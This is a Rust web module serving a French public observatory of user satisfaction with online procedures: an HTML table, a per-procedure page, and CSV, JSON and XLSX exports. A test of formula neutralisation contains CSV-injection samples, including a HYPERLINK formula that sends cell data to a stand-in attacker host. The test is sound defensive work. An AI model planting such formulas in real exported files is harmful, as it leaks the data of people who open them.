//! The public observatory (DESIGN §12): `/observatoire` (a table, cards on phones), its open
//! data `/observatoire.csv` (described by `/observatoire.schema.json`) and `/observatoire.json`,
//! and a démarche's public page `/Demarches/{id}` (no key). The same for every visitor: no
//! session is read, no cookie set, and a CDN may keep every answer (`s-maxage`, a strong
//! `ETag`, 304 on revalidation).

use std::sync::LazyLock;

use axum::http::{header, HeaderMap, HeaderValue, StatusCode};
use axum::response::{IntoResponse, Response};
use chrono::Utc;
use maud::{html, Markup};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use super::demarche::{score_badge, thousands};
use super::{Id, Params};
use crate::console::chart::{buckets, trend_svg, Grain, Readers};
use crate::console::observatory::{listed, Column, Entry, Filter, Snapshot, Sort, Status, Window};
use crate::console::open_data::{table_schema, CSV_COLUMNS};
use crate::console::spreadsheet::{neutralise, starts_formula};
use crate::console::store::{Criteria, EnLigne};
use crate::console::{Answer, Ctx, Problem};
use crate::stats::{Counts, MIN_AVIS_FOR_SCORE};
use crate::vote::paris_day;

/// Cache-Control of every observatory answer: browsers five minutes, a CDN an hour (the figures
/// change at midnight, a porteur's criteria within the hour), stale copies while revalidating
/// or while the origin is down.
pub const CACHE_OBSERVATORY: &str = "max-age=300, s-maxage=3600, stale-while-revalidate=600, stale-if-error=86400";

/// Rows per page of `/observatoire`.
const PAGE_SIZE: usize = 100;

/// The observatory's parameters (all optional; anything unknown is ignored).
#[derive(Deserialize, Default, Clone)]
pub struct ObsQuery {
    administration: Option<String>,
    q: Option<String>,
    tri: Option<String>,
    ordre: Option<String>,
    page: Option<String>,
}

impl ObsQuery {
    fn filter(&self) -> Filter {
        let clean = |s: &Option<String>| {
            s.as_deref().map(|v| v.trim().chars().take(200).collect::<String>()).filter(|v| !v.is_empty())
        };
        Filter { administration: clean(&self.administration), q: clean(&self.q) }
    }

    fn sort(&self) -> Sort {
        Sort::parse(self.tri.as_deref(), self.ordre.as_deref())
    }

    fn page(&self) -> usize {
        self.page.as_deref().and_then(|p| p.parse::<usize>().ok()).filter(|p| *p >= 1).unwrap_or(1)
    }
}

/// The query string of a link to `/observatoire` with this filter, sort and page (defaults left
/// out, so equal pages share one URL in a cache).
fn query_string(filter: &Filter, sort: Sort, page: usize) -> String {
    let mut pairs: Vec<(&str, String)> = Vec::new();
    if let Some(a) = &filter.administration {
        pairs.push(("administration", a.clone()));
    }
    if let Some(q) = &filter.q {
        pairs.push(("q", q.clone()));
    }
    if sort != Sort::default() {
        pairs.push(("tri", sort.column.param().into()));
        pairs.push(("ordre", if sort.descending { "desc" } else { "asc" }.into()));
    }
    if page > 1 {
        pairs.push(("page", page.to_string()));
    }
    let qs = serde_urlencoded::to_string(&pairs).unwrap_or_default();
    if qs.is_empty() {
        qs
    } else {
        format!("?{qs}")
    }
}

/// The snapshot of today (Paris).
async fn snapshot(ctx: &Ctx) -> Result<std::sync::Arc<Snapshot>, Problem> {
    let today = paris_day(Utc::now().timestamp_millis());
    Ok(ctx.console.observatory.get(&ctx.console.store, today).await?)
}

/// The strong `ETag` hash of `body` (hex, without quotes).
fn etag_of(body: &[u8]) -> String {
    hex::encode(&Sha256::digest(body)[..16])
}

/// A cacheable answer: strong `ETag` over the bytes, 304 when the client (or the CDN
/// revalidating) already holds them.
fn cacheable(req: &HeaderMap, content_type: &'static str, body: Vec<u8>) -> Response {
    let hash = etag_of(&body);
    cacheable_tagged(req, content_type, body.into(), &hash)
}

/// [`cacheable`] for bytes whose `ETag` hash is known already.
fn cacheable_tagged(req: &HeaderMap, content_type: &'static str, body: bytes::Bytes, hash: &str) -> Response {
    let etag = format!("\"{hash}\"");
    let matches =
        req.get_all(header::IF_NONE_MATCH).iter().any(|v| crate::http::if_none_match_hits(v.as_bytes(), hash));
    let mut res =
        if matches { StatusCode::NOT_MODIFIED.into_response() } else { (StatusCode::OK, body).into_response() };
    let h = res.headers_mut();
    if !matches {
        h.insert(header::CONTENT_TYPE, HeaderValue::from_static(content_type));
    }
    h.insert(header::CACHE_CONTROL, HeaderValue::from_static(CACHE_OBSERVATORY));
    if let Ok(v) = HeaderValue::from_str(&etag) {
        h.insert(header::ETAG, v);
    }
    res
}

/// The cell of an index /10: its coloured value, « Nombre d'avis insuffisant » under 100 avis,
/// « À venir » with none.
fn indicator(e: &Entry, published: Option<f64>) -> Markup {
    match e.status() {
        Status::AVenir => html! { span.badge { "À venir" } },
        Status::Insuffisant => html! { span.badge { "Nombre d'avis insuffisant" } },
        Status::Publie => match published {
            Some(i) => score_badge(Some(i), e.counts.n),
            None => html! { span.badge { "Non renseigné" } },
        },
    }
}

fn autonomy(e: &Entry) -> Markup {
    match (e.status(), e.autonomie()) {
        (Status::Publie, Some(a)) => html! { (crate::stats::percent_text(a)) },
        (Status::AVenir, _) => html! { span.badge { "À venir" } },
        _ => html! { span.badge { "Nombre d'avis insuffisant" } },
    }
}

/// A declared criterion: « Oui » / « Non » / « Non déclaré », in words and colour.
fn yes_no(v: Option<bool>) -> Markup {
    match v {
        Some(true) => html! { span.badge.vert { "Oui" } },
        Some(false) => html! { span.badge.rouge { "Non" } },
        None => html! { span.badge { "Non déclaré" } },
    }
}

fn en_ligne(v: Option<EnLigne>) -> Markup {
    match v {
        Some(EnLigne::Oui) => html! { span.badge.vert { "Oui" } },
        Some(EnLigne::Partiel) => html! { span.badge.orange { "Partiel" } },
        Some(EnLigne::Non) => html! { span.badge.rouge { "Non" } },
        None => html! { span.badge { "Non déclaré" } },
    }
}

fn criterion(c: &Criteria, column: Column) -> Markup {
    match column {
        Column::EnLigne => en_ligne(c.en_ligne),
        Column::FranceConnect => yes_no(c.franceconnect),
        Column::Mobile => yes_no(c.mobile),
        Column::Support => yes_no(c.support_qualite),
        _ => yes_no(c.disponibilite),
    }
}

/// What the figures leave out, said where they are shown: the day under way.
const TO_YESTERDAY: &str = "Les chiffres vont jusqu'à hier\u{a0}: les avis reçus aujourd'hui y entreront demain.";

fn window_text(w: &Window) -> String {
    format!("du {} au {}", w.from.format("%d/%m/%Y"), w.to.format("%d/%m/%Y"))
}

const LEGEND: &str = "Indices sur 10\u{a0}: vert à partir de 8, orange de 5 à 8, rouge sous 5. \
    Un indice n'est publié qu'à partir de 100 avis sur la période. Les critères sont déclarés par les porteurs de chaque démarche.";

/// `GET /observatoire`.
pub async fn observatoire_get(ctx: Ctx, headers: HeaderMap, Params(q): Params<ObsQuery>) -> Answer {
    let snap = snapshot(&ctx).await?;
    let (filter, sort) = (q.filter(), q.sort());
    let selected = snap.select(&filter, sort);
    let pages = selected.len().div_ceil(PAGE_SIZE).max(1);
    let page = q.page().min(pages);
    let shown = &selected[(page - 1) * PAGE_SIZE..(page * PAGE_SIZE).min(selected.len())];
    let heading = |column: Column| {
        let current = sort.column == column;
        let next = Sort { column, descending: if current { !sort.descending } else { column.natural_descending() } };
        let aria = current.then_some(if sort.descending { "descending" } else { "ascending" });
        html! {
            th scope="col" aria-sort=[aria] {
                a href={ "/observatoire" (query_string(&filter, next, 1)) } {
                    (column.label())
                    @if current { span aria-hidden="true" { @if sort.descending { " ▼" } @else { " ▲" } } }
                    span.sr-only { " – trier par ordre " @if next.descending { "décroissant" } @else { "croissant" } }
                }
            }
        }
    };
    let data_query = query_string(&filter, Sort::default(), 1);
    let main = html! {
        h1 { "Observatoire de la satisfaction des usagers" }
        p.administration {
            "La satisfaction des usagers de chaque démarche en ligne, mesurée par le bouton «\u{a0}Je donne mon avis\u{a0}», et les critères de qualité déclarés par ses porteurs. Avis reçus "
            (window_text(&snap.window)) "."
        }
        p.indication #jusqu-a-hier { (TO_YESTERDAY) }
        form.filtres method="get" action="/observatoire" {
            div.grille {
                div.champ {
                    label for="administration" { "Administration" }
                    select id="administration" name="administration" {
                        option value="" selected[filter.administration.is_none()] { "Toutes" }
                        @for a in &snap.administrations {
                            option value=(a) selected[filter.administration.as_deref().map(crate::search::fold) == Some(crate::search::fold(a))] { (a) }
                        }
                    }
                }
                div.champ {
                    label for="q" { "Mot-clé " span.indication { "(nom, administration ou numéro)" } }
                    input type="search" id="q" name="q" value=(filter.q.as_deref().unwrap_or(""));
                }
            }
            div.grille {
                div.champ {
                    label for="tri" { "Trier par" }
                    select id="tri" name="tri" {
                        @for c in Column::ALL { option value=(c.param()) selected[sort.column == c] { (c.label()) } }
                    }
                }
                div.champ {
                    label for="ordre" { "Ordre" }
                    select id="ordre" name="ordre" {
                        option value="desc" selected[sort.descending] { "Décroissant (les plus hauts d'abord)" }
                        option value="asc" selected[!sort.descending] { "Croissant" }
                    }
                }
            }
            button.bouton-secondaire type="submit" { "Filtrer" }
            @if filter != Filter::default() { " " a href="/observatoire" { "Voir toutes les démarches" } }
        }
        p.indication { (LEGEND) }
        p {
            "Données ouvertes\u{a0}: "
            a href={ "/observatoire.xlsx" (data_query) } { "télécharger le tableau (Excel, XLSX)" } " · "
            a href={ "/observatoire.csv" (data_query) } { "au format CSV" } " · "
            a href={ "/observatoire.json" (data_query) } { "au format JSON" }
        }
        @if selected.is_empty() {
            p role="status" { "Aucune démarche ne correspond à votre recherche." }
        } @else {
            div.tableau-defilant role="region" aria-labelledby="observatoire-titre" tabindex="0" {
                table.tableau.observatoire {
                    caption #observatoire-titre {
                        (selected.len()) @if selected.len() > 1 { " démarches" } @else { " démarche" }
                        @if pages > 1 { " – page " (page) " sur " (pages) }
                    }
                    thead { tr { @for c in Column::ALL { (heading(c)) } } }
                    tbody {
                        @for e in shown {
                            tr {
                                th scope="row" { a href={ "/Demarches/" (e.id) } { (e.name) } }
                                td data-label=(Column::Administration.label()) { (e.administration) }
                                td data-label=(Column::Volume.label()) { (e.volume_annuel.map(thousands).unwrap_or_else(|| "Non déclaré".into())) }
                                td data-label=(Column::Avis.label()) { (thousands(e.counts.n)) }
                                td data-label=(Column::Satisfaction.label()) { (indicator(e, e.satisfaction())) }
                                td data-label=(Column::Facilite.label()) { (indicator(e, e.facilite())) }
                                td data-label=(Column::Clarte.label()) { (indicator(e, e.clarte())) }
                                td data-label=(Column::Autonomie.label()) { (autonomy(e)) }
                                @for c in [Column::EnLigne, Column::FranceConnect, Column::Mobile, Column::Support, Column::Disponibilite] {
                                    td data-label=(c.label()) { (criterion(&e.criteria, c)) }
                                }
                            }
                        }
                    }
                }
            }
            @if pages > 1 {
                nav.pagination aria-label="Pages de l'observatoire" {
                    @if page > 1 { a href={ "/observatoire" (query_string(&filter, sort, page - 1)) } { "Page précédente" } }
                    @if page < pages { a href={ "/observatoire" (query_string(&filter, sort, page + 1)) } { "Page suivante" } }
                }
            }
        }
    };
    let markup = ctx.console.page(&ctx.viewer, &ctx.path, "Observatoire", main);
    Ok(cacheable(&headers, "text/html; charset=utf-8", markup.into_string().into_bytes()))
}

/// One row of the open data (column names are stable: README documents them). The JSON gives its
/// fields verbatim, for programs; the CSV goes through [`csv_cells`].
#[derive(Serialize)]
struct DataRow<'a> {
    demarche_id: i64,
    nom: &'a str,
    administration: &'a str,
    volume_annuel: Option<i64>,
    nombre_avis: i64,
    statut: &'static str,
    satisfaction_indice: Option<f64>,
    facilite_indice: Option<f64>,
    clarte_indice: Option<f64>,
    autonomie_pct: Option<f64>,
    realisable_en_ligne: Option<&'static str>,
    franceconnect: Option<&'static str>,
    compatible_mobile: Option<&'static str>,
    support_qualite: Option<&'static str>,
    disponibilite: Option<&'static str>,
    periode_debut: String,
    periode_fin: String,
    page_url: String,
}

fn round(v: Option<f64>, decimals: i32) -> Option<f64> {
    let f = 10f64.powi(decimals);
    v.map(|v| (v * f).round() / f)
}

fn oui_non(v: Option<bool>) -> Option<&'static str> {
    v.map(|b| if b { "oui" } else { "non" })
}

fn data_rows<'a>(ctx: &Ctx, snap: &'a Snapshot, entries: &[&'a Entry]) -> Vec<DataRow<'a>> {
    let base = &ctx.console.settings.public_url;
    entries
        .iter()
        .map(|e| DataRow {
            demarche_id: e.id,
            nom: &e.name,
            administration: &e.administration,
            volume_annuel: e.volume_annuel,
            nombre_avis: e.counts.n,
            statut: e.status().as_str(),
            satisfaction_indice: round(e.satisfaction(), 2),
            facilite_indice: round(e.facilite(), 2),
            clarte_indice: round(e.clarte(), 2),
            autonomie_pct: round(e.autonomie().map(|a| a * 100.0), 1),
            realisable_en_ligne: e.criteria.en_ligne.map(EnLigne::as_str),
            franceconnect: oui_non(e.criteria.franceconnect),
            compatible_mobile: oui_non(e.criteria.mobile),
            support_qualite: oui_non(e.criteria.support_qualite),
            disponibilite: oui_non(e.criteria.disponibilite),
            periode_debut: snap.window.from.to_string(),
            periode_fin: snap.window.to.to_string(),
            page_url: format!("{base}/Demarches/{}", e.id),
        })
        .collect()
}

/// A row as CSV cells, in the order of [`CSV_COLUMNS`]. Every cell goes through
/// [`neutralise`], so none begins with a character a spreadsheet reads as a formula (DESIGN §12):
/// text cells (name, administration, address) get a leading `'` when they need one. Numbers never
/// do: ids of listed démarches are positive, a negative declared volume reads as undeclared,
/// counts are sums of votes, indexes lie in 0–10 and autonomy in 0–100 (so they keep their
/// Table Schema type). Numbers read as in the JSON (`8.33`, `5.0`).
fn csv_cells(r: &DataRow) -> [String; CSV_COLUMNS.len()] {
    raw_cells(r).map(|cell| if starts_formula(&cell) { neutralise(&cell) } else { cell })
}

/// A row's cells as text, in the order of [`CSV_COLUMNS`], not neutralised (the XLSX form types
/// its cells instead).
fn raw_cells(r: &DataRow) -> [String; CSV_COLUMNS.len()] {
    fn opt<T: std::fmt::Display>(v: Option<T>) -> String {
        v.map(|v| v.to_string()).unwrap_or_default()
    }
    // `{:?}` of an f64 is its shortest exact form with at least one decimal, as serde writes it.
    let number = |v: Option<f64>| v.map(|v| format!("{v:?}")).unwrap_or_default();
    [
        r.demarche_id.to_string(),
        r.nom.to_string(),
        r.administration.to_string(),
        opt(r.volume_annuel),
        r.nombre_avis.to_string(),
        r.statut.to_string(),
        number(r.satisfaction_indice),
        number(r.facilite_indice),
        number(r.clarte_indice),
        number(r.autonomie_pct),
        opt(r.realisable_en_ligne),
        opt(r.franceconnect),
        opt(r.compatible_mobile),
        opt(r.support_qualite),
        opt(r.disponibilite),
        r.periode_debut.clone(),
        r.periode_fin.clone(),
        r.page_url.clone(),
    ]
}

/// `GET /observatoire.xlsx`: the open data as a spreadsheet for people (the CSV stays for
/// programs): French column titles, numbers as numbers, dates as dates, a frozen header with
/// filters, columns sized, and a second sheet that explains each column. Typed cells need no
/// neutralising. Same filters, sort and caching as the CSV (its bytes are stable for a given
/// snapshot, so its ETag is too).
pub async fn xlsx_get(ctx: Ctx, headers: HeaderMap, Params(q): Params<ObsQuery>) -> Answer {
    let snap = snapshot(&ctx).await?;
    let mut entries = snap.select(&q.filter(), Sort::default());
    entries.sort_by_key(|e| e.id);
    let rows: Vec<[String; CSV_COLUMNS.len()]> = data_rows(&ctx, &snap, &entries).iter().map(raw_cells).collect();
    let made = snap.window.to;
    let body = tokio::task::spawn_blocking(move || open_data_xlsx(&rows, made))
        .await
        .map_err(|e| anyhow::anyhow!("observatoire.xlsx: {e}"))?
        .map_err(|e| anyhow::anyhow!("observatoire.xlsx: {e}"))?;
    let mut res = cacheable(&headers, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", body);
    res.headers_mut()
        .insert(header::CONTENT_DISPOSITION, HeaderValue::from_static("attachment; filename=\"observatoire.xlsx\""));
    Ok(res)
}

/// The workbook of [`xlsx_get`]; `made`: the last day of the window, its creation date (so the
/// same figures make the same bytes).
fn open_data_xlsx(
    rows: &[[String; CSV_COLUMNS.len()]],
    made: chrono::NaiveDate,
) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    use crate::console::open_data::{Kind, FIELDS};
    use chrono::Datelike;
    use rust_xlsxwriter::{DocProperties, ExcelDateTime, Format, Workbook};
    let mut workbook = Workbook::new();
    let date = |d: chrono::NaiveDate| ExcelDateTime::from_ymd(d.year() as u16, d.month() as u8, d.day() as u8);
    workbook.set_properties(
        &DocProperties::new()
            .set_title("Observatoire de la satisfaction des usagers")
            .set_creation_datetime(&date(made)?),
    );
    let bold = Format::new().set_bold().set_text_wrap();
    let day = Format::new().set_num_format("dd/mm/yyyy");
    let sheet = workbook.add_worksheet();
    sheet.set_name("Observatoire")?;
    for (c, f) in FIELDS.iter().enumerate() {
        let width = match f.kind {
            Kind::String if f.name == "nom" => 48.0,
            Kind::String => 28.0,
            Kind::Date => 12.0,
            _ => 14.0,
        };
        sheet.set_column_width(c as u16, width)?;
        sheet.write_string_with_format(0, c as u16, f.title, &bold)?;
    }
    for (r, cells) in rows.iter().enumerate() {
        let r = r as u32 + 1;
        for (c, (f, cell)) in FIELDS.iter().zip(cells).enumerate() {
            let c = c as u16;
            if cell.is_empty() {
                continue;
            }
            match f.kind {
                Kind::Integer | Kind::Number => match cell.parse::<f64>() {
                    Ok(v) => sheet.write_number(r, c, v)?,
                    Err(_) => sheet.write_string(r, c, cell)?,
                },
                Kind::Date => match chrono::NaiveDate::parse_from_str(cell, "%Y-%m-%d") {
                    Ok(d) => sheet.write_datetime_with_format(r, c, &date(d)?, &day)?,
                    Err(_) => sheet.write_string(r, c, cell)?,
                },
                Kind::String | Kind::Boolean => sheet.write_string(r, c, cell)?,
            };
        }
    }
    sheet.set_freeze_panes(1, 0)?;
    sheet.autofilter(0, 0, rows.len().max(1) as u32, FIELDS.len() as u16 - 1)?;
    let doc = workbook.add_worksheet();
    doc.set_name("Colonnes")?;
    doc.set_column_width(0, 24)?;
    doc.set_column_width(1, 36)?;
    doc.set_column_width(2, 100)?;
    for (c, title) in ["Colonne", "Titre", "Description"].iter().enumerate() {
        doc.write_string_with_format(0, c as u16, *title, &bold)?;
    }
    for (r, f) in FIELDS.iter().enumerate() {
        let r = r as u32 + 1;
        doc.write_string(r, 0, f.name)?;
        doc.write_string(r, 1, f.title)?;
        doc.write_string(r, 2, f.description)?;
    }
    workbook.save_to_buffer()
}

/// The CSV of `entries`: one header line, then a line per entry.
fn csv_body(ctx: &Ctx, snap: &Snapshot, entries: &[&Entry]) -> Result<Vec<u8>, Problem> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(CSV_COLUMNS).map_err(|e| anyhow::anyhow!("observatoire.csv: {e}"))?;
    for row in data_rows(ctx, snap, entries) {
        w.write_record(csv_cells(&row)).map_err(|e| anyhow::anyhow!("observatoire.csv: {e}"))?;
    }
    Ok(w.into_inner().map_err(|e| anyhow::anyhow!("observatoire.csv: {e}"))?)
}

/// The entries of the open data for `q`'s filters, by id.
fn data_entries<'a>(snap: &'a Snapshot, q: &ObsQuery) -> Vec<&'a Entry> {
    let mut v = snap.select(&q.filter(), Sort::default());
    v.sort_by_key(|e| e.id);
    v
}

/// The body of the open data and its `ETag` hash: without filters, made once per snapshot and
/// kept in `slot`; with filters, made for this request.
fn open_data(
    snap: &Snapshot,
    slot: &std::sync::OnceLock<(bytes::Bytes, String)>,
    q: &ObsQuery,
    make: impl Fn(&[&Entry]) -> Result<Vec<u8>, Problem>,
) -> Result<(bytes::Bytes, String), Problem> {
    if q.filter() != Filter::default() {
        let body = make(&data_entries(snap, q))?;
        let hash = etag_of(&body);
        return Ok((body.into(), hash));
    }
    if let Some(done) = slot.get() {
        return Ok(done.clone());
    }
    let body = make(&data_entries(snap, q))?;
    let hash = etag_of(&body);
    // Two first requests at once both make it; either result is the same bytes.
    Ok(slot.get_or_init(|| (body.into(), hash)).clone())
}

/// `GET /observatoire.csv`: UTF-8, comma-separated, one header line (the same filters as the
/// page; sorted by id).
pub async fn csv_get(ctx: Ctx, headers: HeaderMap, Params(q): Params<ObsQuery>) -> Answer {
    let snap = snapshot(&ctx).await?;
    let (body, hash) = open_data(&snap, &snap.csv, &q, |entries| csv_body(&ctx, &snap, entries))?;
    let mut res = cacheable_tagged(&headers, "text/csv; charset=utf-8", body, &hash);
    res.headers_mut()
        .insert(header::CONTENT_DISPOSITION, HeaderValue::from_static("inline; filename=\"observatoire.csv\""));
    Ok(res)
}

/// The Table Schema's bytes, made once.
static SCHEMA: LazyLock<Vec<u8>> = LazyLock::new(|| {
    // A `Value` of strings and numbers always serializes.
    serde_json::to_vec_pretty(&table_schema()).unwrap_or_default()
});

/// `GET /observatoire.schema.json`: the frictionless Table Schema of the CSV's columns (types,
/// French titles and descriptions, constraints), cached like the CSV.
pub async fn schema_get(headers: HeaderMap) -> Response {
    let mut res = cacheable(&headers, "application/json", SCHEMA.clone());
    res.headers_mut().insert("access-control-allow-origin", HeaderValue::from_static("*"));
    res
}

/// The JSON of `entries`: `{periode_debut, periode_fin, seuil_avis, demarches: [...]}`.
fn json_body(ctx: &Ctx, snap: &Snapshot, entries: &[&Entry]) -> Result<Vec<u8>, Problem> {
    #[derive(Serialize)]
    struct Doc<'a> {
        periode_debut: String,
        periode_fin: String,
        seuil_avis: i64,
        demarches: Vec<DataRow<'a>>,
    }
    let doc = Doc {
        periode_debut: snap.window.from.to_string(),
        periode_fin: snap.window.to.to_string(),
        seuil_avis: MIN_AVIS_FOR_SCORE,
        demarches: data_rows(ctx, snap, entries),
    };
    Ok(serde_json::to_vec_pretty(&doc).map_err(|e| anyhow::anyhow!("observatoire.json: {e}"))?)
}

/// `GET /observatoire.json`: `{periode_debut, periode_fin, seuil_avis, demarches: [...]}`.
pub async fn json_get(ctx: Ctx, headers: HeaderMap, Params(q): Params<ObsQuery>) -> Answer {
    let snap = snapshot(&ctx).await?;
    let (body, hash) = open_data(&snap, &snap.json, &q, |entries| json_body(&ctx, &snap, entries))?;
    let mut res = cacheable_tagged(&headers, "application/json", body, &hash);
    res.headers_mut().insert("access-control-allow-origin", HeaderValue::from_static("*"));
    Ok(res)
}

/// `GET /Demarches/{id}` without a key: the démarche's public page. Reads the store (two small
/// statements over `avis_daily`), so a démarche is public as soon as it is created.
pub async fn public_get(ctx: Ctx, headers: HeaderMap, Id(id): Id) -> Answer {
    let store = &ctx.console.store;
    let not_found = || {
        Problem::new(
            StatusCode::NOT_FOUND,
            "Démarche introuvable",
            "Aucune démarche publiée à l'observatoire ne porte ce numéro.",
        )
    };
    let d = store.demarche(id).await?.ok_or_else(not_found)?;
    if let Some(target) = d.merged_into {
        let mut res = StatusCode::MOVED_PERMANENTLY.into_response();
        if let Ok(v) = HeaderValue::from_str(&format!("/Demarches/{target}")) {
            res.headers_mut().insert(header::LOCATION, v);
        }
        res.headers_mut().insert(header::CACHE_CONTROL, HeaderValue::from_static(CACHE_OBSERVATORY));
        return Ok(res);
    }
    if !listed(&d) {
        return Err(not_found());
    }
    let window = Window::ending_before(paris_day(Utc::now().timestamp_millis()));
    let days = store.day_counts(id, window.from, window.to, None).await?;
    let total = days.iter().fold(Counts::default(), |mut acc, (_, c)| {
        acc.add(c);
        acc
    });
    let e = Entry::new(&d, total);
    // Months under 100 avis keep their count but show no index (DESIGN §5).
    let trend: Vec<_> = buckets(&days, window.from, window.to, Grain::Month)
        .into_iter()
        .map(|mut b| {
            if b.counts.n < MIN_AVIS_FOR_SCORE {
                b.counts.satisfaction = [0; 3];
            }
            b
        })
        .collect();
    let chiffre = |label: &str, value: Markup| html! { div.chiffre { p.libelle { (label) } p.valeur { (value) } } };
    let main = html! {
        nav aria-label="Fil d'Ariane" { p { a href="/observatoire" { "Observatoire" } " › " (d.details.name) } }
        h1 { (d.details.name) }
        @if !d.details.administration.is_empty() { p.administration { (d.details.administration) } }
        h2 { "Satisfaction des usagers" }
        p { "Avis reçus " (window_text(&window)) " par le bouton «\u{a0}Je donne mon avis\u{a0}»." }
        p.indication #jusqu-a-hier { (TO_YESTERDAY) }
        div.chiffres {
            (chiffre("Satisfaction", indicator(&e, e.satisfaction())))
            (chiffre("Facilité", indicator(&e, e.facilite())))
            (chiffre("Clarté du langage", indicator(&e, e.clarte())))
            (chiffre("Autonomie", autonomy(&e)))
            (chiffre("Nombre d'avis", html! { (thousands(e.counts.n)) }))
        }
        p.indication { (LEGEND) }
        section.carte {
            h3 #tendance { "Tendance sur 12 mois" }
            (trend_svg(&trend, "tendance", Readers::Public))
            table.tableau {
                caption { "Tendance sur 12 mois, en texte" }
                thead { tr { th scope="col" { "Mois" } th scope="col" { "Avis" } th scope="col" { "Satisfaction /10" } } }
                tbody {
                    @for b in &trend {
                        tr {
                            td { (b.label) }
                            td { (thousands(b.counts.n)) }
                            td {
                                @match b.counts.satisfaction_index() {
                                    Some(i) if !crate::stats::indicative(b.counts.n) => (crate::stats::index_text(i)),
                                    None if b.counts.n == 0 => "–",
                                    _ => "Nombre d'avis insuffisant",
                                }
                            }
                        }
                    }
                }
            }
        }
        section.carte {
            h3 { "Critères de qualité déclarés" }
            dl.criteres {
                @for c in [Column::EnLigne, Column::FranceConnect, Column::Mobile, Column::Support, Column::Disponibilite] {
                    dt { (c.label()) } dd { (criterion(&e.criteria, c)) }
                }
            }
            p.indication { "«\u{a0}Support usager de qualité\u{a0}»\u{a0}: au moins deux moyens de contact et une aide humaine." }
        }
    };
    let markup = ctx.console.page(&ctx.viewer, &ctx.path, &d.details.name, main);
    Ok(cacheable(&headers, "text/html; charset=utf-8", markup.into_string().into_bytes()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn data_row<'a>(nom: &'a str, administration: &'a str) -> DataRow<'a> {
        DataRow {
            demarche_id: 12,
            nom,
            administration,
            volume_annuel: Some(900_000),
            nombre_avis: 120,
            statut: "publie",
            satisfaction_indice: Some(8.33),
            facilite_indice: Some(5.0),
            clarte_indice: None,
            autonomie_pct: Some(100.0),
            realisable_en_ligne: Some("partiel"),
            franceconnect: Some("oui"),
            compatible_mobile: Some("non"),
            support_qualite: None,
            disponibilite: None,
            periode_debut: "2025-12-02".into(),
            periode_fin: "2026-12-01".into(),
            page_url: "https://avis.example.fr/Demarches/12".into(),
        }
    }

    /// The CSV cell of each column is the JSON value of the field of that name: the cells cannot
    /// come out in another order than the header (nor the JSON's names drift from the CSV's).
    #[test]
    fn csv_cells_follow_the_columns() {
        let row = data_row("Carte grise", "ANTS");
        let json: serde_json::Value = serde_json::to_value(&row).unwrap();
        assert_eq!(json.as_object().unwrap().len(), CSV_COLUMNS.len());
        for (column, cell) in CSV_COLUMNS.iter().zip(csv_cells(&row)) {
            let expected = match &json[column] {
                serde_json::Value::Null => String::new(),
                serde_json::Value::String(s) => s.clone(),
                v => v.to_string(),
            };
            assert_eq!(cell, expected, "{column}");
        }
    }

    #[test]
    fn csv_text_cells_are_never_formulas() {
        for evil in
            ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez ici\")", "+33", "-x", "@SUM(A1)", "\tx", "\rx"]
        {
            let cells = csv_cells(&data_row(evil, evil));
            assert_eq!(cells[1], format!("'{evil}"));
            assert_eq!(cells[2], format!("'{evil}"));
            assert!(cells.iter().all(|c| !starts_formula(c)), "{cells:?}");
        }
        // The JSON keeps them verbatim.
        let json = serde_json::to_value(data_row("=1+1", "+ANTS")).unwrap();
        assert_eq!((json["nom"].as_str(), json["administration"].as_str()), (Some("=1+1"), Some("+ANTS")));
    }

    #[test]
    fn links_leave_defaults_out() {
        let f = Filter::default();
        assert_eq!(query_string(&f, Sort::default(), 1), "");
        let f = Filter { administration: Some("Ministère de l'Intérieur".into()), q: Some("carte grise".into()) };
        let s = Sort { column: Column::Satisfaction, descending: false };
        assert_eq!(
            query_string(&f, s, 2),
            "?administration=Minist%C3%A8re+de+l%27Int%C3%A9rieur&q=carte+grise&tri=satisfaction&ordre=asc&page=2"
        );
    }

    #[test]
    fn etags_and_304() {
        let body = b"abc".to_vec();
        let first = cacheable(&HeaderMap::new(), "text/plain", body.clone());
        assert_eq!(first.status(), StatusCode::OK);
        let etag = first.headers()[header::ETAG].clone();
        assert_eq!(first.headers()[header::CACHE_CONTROL], CACHE_OBSERVATORY);
        let mut h = HeaderMap::new();
        h.insert(header::IF_NONE_MATCH, HeaderValue::from_str(&format!("\"x\", {}", etag.to_str().unwrap())).unwrap());
        let again = cacheable(&h, "text/plain", body);
        assert_eq!(again.status(), StatusCode::NOT_MODIFIED);
        assert_eq!(again.headers()[header::ETAG], etag);
    }
}
